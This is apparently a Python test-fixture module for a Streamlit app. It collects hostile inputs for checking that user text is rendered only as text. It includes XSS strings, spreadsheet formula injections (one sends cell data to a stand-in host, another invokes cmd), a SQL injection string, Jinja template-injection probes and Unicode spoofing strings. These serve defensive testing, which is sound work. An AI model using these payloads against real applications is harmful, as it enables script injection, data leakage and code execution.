"""Hostile inputs from shared/guide/security.md, for any test that feeds text to the app.

`RENDERING` are the strings that would do something if rendered as Markdown or HTML; a test can
check they reach the browser only as text with `markup_leaks(at, s)`.
"""

from __future__ import annotations

from streamlit.testing.v1 import AppTest

RENDERING = (
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script>",
    "[klik](javascript:alert(1))",
    "![x](http://x.example/p.png)",
    "${alert(1)}",
    "`);alert(1);//",
)
FORMULAS = (
    '=HYPERLINK("http://x.example/?d="&A2,"y")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
)
ODD = (
    "C:\\users\\x",
    "' OR 1=1 --",
    "%",
    "_",
    "a\x00b",
    "\u202eevil",
    "adm\u200bin",
    "\u0430dmin",  # Cyrillic а
    "Budi\n2026-01-01 INFO login admin berhasil",
    "0001",
    "1e5",
    "NaN",
    "inf",
    "91,181",
)
# Template syntax: harmless as text, code if anything compiles it as a Jinja template (branca
# does that to rendered folium output), and "{%" alone would stop such a render.
TEMPLATES = (
    "{{ 7777 * 3 }}",
    "{% for i in range(3) %}i{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "{%",
    "{#",
)
HUGE = "x" * 1_000_000
ALL = RENDERING + FORMULAS + ODD + TEMPLATES + (HUGE,)

# Elements whose text Streamlit renders as Markdown (links, images, HTML-ish syntax).
MARKDOWN_KINDS = (
    "markdown", "caption", "title", "header", "subheader", "error", "warning", "info",
    "success", "toast",
)  # fmt: skip


def markup_leaks(at: AppTest, hostile: str) -> list[str]:
    """Markdown-rendered elements that contain `hostile` as typed (it should be text only)."""
    found = []
    for kind in MARKDOWN_KINDS:
        for element in getattr(at, kind, []):
            if hostile in str(element.value):
                found.append(f"{kind}: {str(element.value)[:80]!r}")
    return found


def everything_shown(at: AppTest) -> str:
    """All text the run sent: elements, widget labels and values, and table cells."""
    parts: list[str] = []
    for kind in MARKDOWN_KINDS + ("text", "code", "metric", "json", "exception"):
        parts.extend(str(e.value) for e in getattr(at, kind, []))
    for df in at.dataframe:
        parts.append(df.value.to_csv())
    for kind in ("selectbox", "multiselect", "radio"):
        for w in getattr(at, kind, []):
            parts.append(" ".join(str(o) for o in w.options))
    return "\n".join(parts)
